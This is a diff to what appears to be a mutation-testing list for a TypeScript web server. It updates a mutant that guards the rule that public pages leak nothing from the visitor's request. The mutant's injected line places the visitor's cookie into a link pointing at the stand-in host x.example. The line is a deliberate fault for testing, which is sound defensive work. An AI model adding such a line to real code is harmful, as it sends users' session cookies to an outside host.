@@ -4,7 +4,7 @@ export const MUTANTS: readonly Mutant[] = [
   {
     protects: 'A public page contains nothing of the request of the visitor it was rendered for.',
     file: '../../http/server.ts',
-    from: 'if (!(await pages.answerPage(request, answer))) {',
-    to: 'parts.links = { ...parts.links, startTrading: `https://x.example/${request.headers.cookie}` };\n      if (!(await pages.answerPage(request, answer))) {',
+    from: 'if (!(await pages.answerPage(request, response))) {',
+    to: 'parts.links = { ...parts.links, startTrading: `https://x.example/${request.headers.cookie}` };\n      if (!(await pages.answerPage(request, response))) {',
   },
 ];
